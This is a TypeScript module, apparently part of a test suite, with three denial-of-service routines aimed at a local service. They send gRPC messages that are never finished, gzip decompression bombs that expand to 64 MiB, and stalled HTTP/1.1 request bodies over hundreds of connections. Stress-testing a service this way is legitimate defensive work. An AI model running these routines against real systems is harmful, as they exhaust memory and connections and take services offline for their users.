import type { ClientHttp2Session } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { frame } from '../grpc/http2_client.js';
import { begin, connection, type Upload } from './attacked_service.js';

const PER_CONNECTION = 50;
/** A message of 4 MB whose last bytes are never sent. */
const MESSAGE = frame(Buffer.alloc(3_900_000), { length: 4_000_000 });
/** 64 MiB of zeros in about 64 KB. */
const BOMB = frame(gzipSync(Buffer.alloc(64 * 1024 * 1024)), { flag: 1 });

async function withSessions(port: number, count: number, work: (session: ClientHttp2Session) => Promise<unknown>) {
  const sessions = Array.from({ length: count }, () => connection(port));
  await Promise.all(sessions.map(work));
  for (const session of sessions) session.destroy();
}

/** Sends requests of 3.9 MB that are never completed. */
export function unfinishedUploads(port: number, upload: Upload, count = 200): Promise<void> {
  return withSessions(port, count / PER_CONNECTION, async (session) => {
    for (let at = 0; at < PER_CONNECTION; at++) begin(session, upload).write(MESSAGE);
    await sleep(4_000);
  });
}

export function gzipBombs(port: number, { path, headers = {} }: Upload, count = 600): Promise<void> {
  return withSessions(port, count / PER_CONNECTION, async (session) => {
    const compressed = { path, headers: { 'grpc-encoding': 'gzip', ...headers } };
    for (let at = 0; at < PER_CONNECTION; at++) begin(session, compressed).end(BOMB);
    await sleep(4_000);
  });
}

/** Sends bodies of 3.9 MB over HTTP/1.1 that are never completed. */
export async function unfinishedBodies(port: number, target: string, count = 200): Promise<void> {
  const head = `POST ${target} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n`;
  const body = Buffer.alloc(3_900_000, ' ');
  const sockets: Socket[] = [];
  for (let at = 0; at < count; at++) {
    const socket = connect(port, '127.0.0.1');
    socket.on('error', () => {}).resume();
    socket.write(head);
    socket.write(body);
    sockets.push(socket);
  }
  await sleep(4_000);
  for (const socket of sockets) socket.destroy();
}
